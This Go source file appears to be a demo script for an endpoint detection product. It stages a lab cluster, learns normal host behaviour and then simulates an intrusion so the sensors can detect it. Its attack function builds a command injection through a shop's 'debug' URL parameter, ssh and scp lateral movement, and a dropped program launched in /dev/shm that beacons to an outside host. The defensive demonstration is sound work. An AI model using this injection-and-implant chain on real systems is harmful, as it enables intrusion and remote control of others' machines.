package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"time"

	"github.com/vedette-edr/vedette/scripts/internal/lab"
)

// dropped is where the attacker puts a program that no host has run before.
const dropped = "/dev/shm/vedette-demo-kworkerd"

const (
	summaryEvery = 2 * time.Second
	learnFor     = 25 * time.Second
)

// story tells one thing after the other; each step fails without its evidence.
type story struct {
	lab     *lab.Lab
	say     *narrator
	world   *world
	cluster *lab.Cluster
	// handsOff: people set beforehand what automation may do, and type nothing afterwards.
	handsOff bool
}

// step is one part of the story.
type step struct {
	title string
	do    func(context.Context) error
}

func (s *story) tell(ctx context.Context) error {
	for _, step := range s.steps() {
		s.say.part(step.title)
		if err := step.do(ctx); err != nil {
			return fmt.Errorf("%s: %w", step.title, err)
		}
	}
	return nil
}

func (s *story) steps() []step {
	begin := []step{
		{"Three coordinator nodes and four hosts, each in its own network namespace", s.stage},
		{fmt.Sprintf("Ordinary work, learnt for %.0f s", learnFor.Seconds()), s.learn},
	}
	attack := []step{
		{"The attack: a hole in the shop on web1, ssh to app1, a new program on db1", s.attack},
		{"What the sensors found", s.findings},
		{"One incident", s.incident},
		{"The campaign: how it moved, and what joins it", s.campaign},
		{"The investigation, with nobody asking", s.investigation},
	}
	if s.handsOff {
		before := step{"What automation may do, set beforehand", func(ctx context.Context) error { return s.permit(ctx, handsOffIntent) }}
		return slices.Concat(begin, []step{before}, attack, []step{{"Contained, with nobody typing", s.contained}})
	}
	return slices.Concat(begin, attack, []step{
		{"What automation may do: db1 at once, app1 with approval, web1 unless vetoed", func(ctx context.Context) error { return s.permit(ctx, intentFile) }},
		{"The attacker goes on", s.automation},
		{"Isolation of the whole fleet: two operators", s.isolate},
		{"Release", s.release},
		{"A person's word, and who learns from it", s.judged},
	})
}

func (s *story) stage(ctx context.Context) (err error) {
	if s.world, err = build(s.lab); err != nil {
		return err
	}
	s.lab.OnClose(removeDropped)
	var nodes []lab.NodeSpec
	for _, n := range s.world.nodes {
		nodes = append(nodes, lab.NodeSpec{ID: n.name, Listen: n.v4 + ":7443", Operator: n.v4 + ":7444", NS: n.ns})
	}
	if s.cluster, err = s.lab.StartCluster(ctx, nodes, func(text string) { s.say.line("%s", text) }); err != nil {
		return err
	}
	for _, h := range s.world.hosts {
		_, err := s.cluster.StartSensor(ctx, lab.SensorSpec{
			Name: h.name, Scope: "netns:" + h.ns.Path(), NS: h.ns,
			Labels:          map[string]string{"role": strings.TrimRight(h.name, "1")},
			SummaryInterval: summaryEvery, Window: 3 * time.Second, KnownWindows: 2, LearnFor: learnFor,
		})
		if err != nil {
			return err
		}
	}
	err = s.until(ctx, time.Minute, "four hosts online", func(ctx context.Context) (bool, error) {
		hosts, err := s.cluster.Hosts(ctx)
		online := 0
		for _, h := range hosts {
			if h.State == "online" {
				online++
			}
		}
		return online == len(s.world.hosts), err
	})
	if err == nil {
		s.say.proved("3 nodes are members, 4 sensors are enrolled and online")
	}
	return err
}

func (s *story) learn(ctx context.Context) error {
	if err := s.world.ordinary(ctx); err != nil {
		return err
	}
	for _, h := range s.world.hosts[:3] {
		through, err := tryOut(ctx, h, s.world.admin())
		if err != nil {
			return err
		}
		if !through.all() {
			return fmt.Errorf("%s should reach its neighbour before the isolation: %s", h.name, through)
		}
	}
	s.say.proved("web1, app1 and db1 reach their neighbour over IPv4 and IPv6")
	var hosts map[string]lab.Host
	err := s.until(ctx, learnFor+20*time.Second, "learning to end on every host", func(ctx context.Context) (ok bool, err error) {
		hosts, err = s.cluster.Hosts(ctx)
		for _, h := range s.world.hosts {
			if got := hosts[h.name]; got.Baseline.Learning || got.Baseline.Behaviours == 0 {
				return false, err
			}
		}
		return true, err
	})
	if err != nil {
		return err
	}
	for _, h := range s.world.hosts {
		got := hosts[h.name]
		s.say.line("%-7s %3d behaviours learnt from %d events, %d lost", h.name, got.Baseline.Behaviours, got.Total, got.Lost)
	}
	found, err := s.list(ctx)
	if err != nil {
		return err
	}
	if len(found) > 0 {
		return errors.Join(fmt.Errorf("ordinary work raised %d findings, the first on %s: %s", len(found), found[0].HostName, found[0].Title),
			s.show(ctx, "finding", "show", found[0].ID))
	}
	s.say.proved("no finding came of ordinary work")
	return nil
}

func (s *story) attack(ctx context.Context) error {
	w := s.world
	kit := filepath.Join(s.lab.Dir, "kit")
	if err := w.program(kit, true); err != nil {
		return err
	}
	// On app1: fetch the kit from where the attacker left it, hand it to db1, start it there.
	run := fmt.Sprintf("setsid %s role beacon %s:443 </dev/null >/dev/null 2>&1 &", dropped, w.away.v4)
	onApp := fmt.Sprintf("id; %s %s root@%s:%s && %s '%s'",
		strings.Join(w.scp(), " "), kit, w.db().v4, dropped, strings.Join(w.ssh(w.db()), " "), run)
	onWeb := fmt.Sprintf("id; uname -a; %s %s", strings.Join(w.ssh(w.app()), " "), quote(onApp))
	address := "http://" + w.web().v4 + ":8080/price?debug=" + url.QueryEscape(onWeb)
	client := filepath.Join(s.lab.Dir, "shopper")
	out, err := s.lab.Run(w.away.ns, exec.CommandContext(ctx, client, "role", "ask", address))
	if err != nil {
		return err
	}
	if !bytes.Contains(out, []byte("uid=0")) {
		return fmt.Errorf("the hole gave no shell: %s", out)
	}
	return s.until(ctx, 5*time.Second, "the program on db1 to run", func(context.Context) (bool, error) {
		return len(running(dropped)) > 0, nil
	})
}

func (s *story) until(ctx context.Context, most time.Duration, what string, holds func(context.Context) (bool, error)) error {
	ctx, cancel := context.WithTimeoutCause(ctx, most, fmt.Errorf("not within %s", most))
	defer cancel()
	return lab.Until(ctx, 250*time.Millisecond, what, holds)
}

// quote makes one word of a text for a shell.
func quote(text string) string { return "'" + strings.ReplaceAll(text, "'", `'\''`) + "'" }

// running are the processes of a program.
func running(path string) []int {
	var pids []int
	all, _ := filepath.Glob("/proc/[0-9]*/exe")
	for _, exe := range all {
		if target, err := os.Readlink(exe); err == nil && strings.TrimSuffix(target, " (deleted)") == path {
			var pid int
			if _, err := fmt.Sscanf(exe, "/proc/%d/exe", &pid); err == nil {
				pids = append(pids, pid)
			}
		}
	}
	slices.Sort(pids)
	return pids
}

// removeDropped ends the attacker's program, which nobody else does, and removes it.
func removeDropped() error {
	for _, pid := range running(dropped) {
		p, err := os.FindProcess(pid)
		if err == nil {
			err = p.Kill()
		}
		if err != nil && !errors.Is(err, os.ErrProcessDone) {
			return fmt.Errorf("ending the dropped program: %w", err)
		}
	}
	if err := os.Remove(dropped); err != nil && !errors.Is(err, os.ErrNotExist) {
		return err
	}
	return nil
}
